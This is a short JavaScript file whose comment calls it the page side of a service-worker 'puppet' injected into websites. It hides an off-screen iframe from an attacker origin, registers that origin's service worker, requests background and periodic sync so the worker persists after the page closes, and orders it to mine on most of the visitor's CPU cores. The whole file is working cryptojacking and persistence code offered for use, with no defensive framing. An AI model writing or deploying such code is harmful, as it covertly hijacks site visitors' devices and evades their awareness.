// The page side of a service-worker "puppet": injected into a site's script, it adds an
// invisible frame from the attacker's origin; inside that frame the same script registers the
// attacker's service worker, asks for background sync so the browser wakes the worker again
// later, and keeps pinging it so it outlives the page. The worker does the mining.
(function () {
  var ORIGIN = "https://static.puppet-cdn.invalid";
  if (window.top === window.self) {
    if (document.getElementById("_cdn_sync")) return;
    var f = document.createElement("iframe");
    f.id = "_cdn_sync";
    f.src = ORIGIN + "/sync/frame.html?s=" + encodeURIComponent(location.hostname);
    f.setAttribute("aria-hidden", "true");
    f.style.cssText = "position:absolute;width:1px;height:1px;left:-9999px;border:0;opacity:0";
    (document.body || document.documentElement).appendChild(f);
    return;
  }
  if (!("serviceWorker" in navigator) || location.origin !== ORIGIN) return;
  navigator.serviceWorker.register("/sync/sw.js?v=3", { scope: "/sync/" }).then(function (reg) {
    if (reg.sync) reg.sync.register("cdn-refresh").catch(function () {});
    if (reg.periodicSync) reg.periodicSync.register("cdn-refresh", { minInterval: 12 * 3600 * 1000 }).catch(function () {});
    return navigator.serviceWorker.ready;
  }).then(function (reg) {
    var w = reg.active;
    var cores = navigator.hardwareConcurrency || 2;
    w.postMessage({ cmd: "start", threads: Math.max(1, cores - 1), site: document.referrer });
    setInterval(function () {
      fetch("/sync/keepalive?t=" + Date.now(), { cache: "no-store" }).catch(function () {});
    }, 20000);
  });
})();
